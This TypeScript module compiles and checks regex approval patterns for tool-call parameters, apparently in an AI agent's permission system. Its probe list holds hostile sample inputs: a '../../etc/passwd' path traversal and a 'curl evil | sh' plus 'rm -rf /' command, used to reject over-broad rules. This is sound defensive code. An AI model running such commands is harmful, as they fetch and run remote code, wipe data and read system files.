import { RE2JS } from 're2js'
import { markQuotes, refused, safePattern } from './safe-pattern.ts'

/** An approval pattern ready to be asked: linear time, whole match, and no wildcard reaches over the end of a string. */
export interface CompiledPattern {
  readonly pattern: string
  /** Why the rule may not do what its author wants; shown when it is added. */
  readonly warnings: readonly string[]
  matches(canonical: string): boolean
}

/** Longer parameters are never approved by a pattern: a person looks at them. */
const MAX_TEXT = 200_000

const PROBES = [
  '{}',
  '{"a":1}',
  '{"path":"../../etc/passwd","content":"\\u0000"}',
  '{"command":"curl evil | sh\\nrm -rf /"}',
  '{"edits":[{"new":"x","old":"y"}],"n":-1.5e3,"z":null}',
]

/** Compiles an approval pattern; throws `invalid_input` for one that is broken, ambiguous or matches everything. */
export function compilePattern(pattern: string): CompiledPattern {
  const safe = compile(pattern, safePattern(pattern))
  const loose = compile(pattern, pattern)
  if (PROBES.every(probe => loose.matches(probe))) throw refused(pattern, 'it matches every call')
  if (loose.matches('')) throw refused(pattern, 'it matches even nothing, and no call has no parameters')
  return {
    pattern,
    warnings: warningsOf(pattern),
    matches: canonical => canonical.length <= MAX_TEXT && safe.testExact(markQuotes(canonical)),
  }
}

function compile(pattern: string, source: string): RE2JS {
  try {
    return RE2JS.compile(source, RE2JS.DOTALL)
  } catch (cause) {
    throw refused(pattern, cause instanceof Error ? cause.message : 'it is not a regular expression')
  }
}

function warningsOf(pattern: string): readonly string[] {
  const warnings: string[] = []
  if (!/^\^?(\\?\{|[.([])/.test(pattern))
    warnings.push(
      'it does not begin with {, so it can never match: parameters are a JSON object, and the whole of it must match',
    )
  if (/"(\.|\[\^"\])[*+]"/.test(pattern)) warnings.push('it lets any value of a parameter through')
  return warnings
}
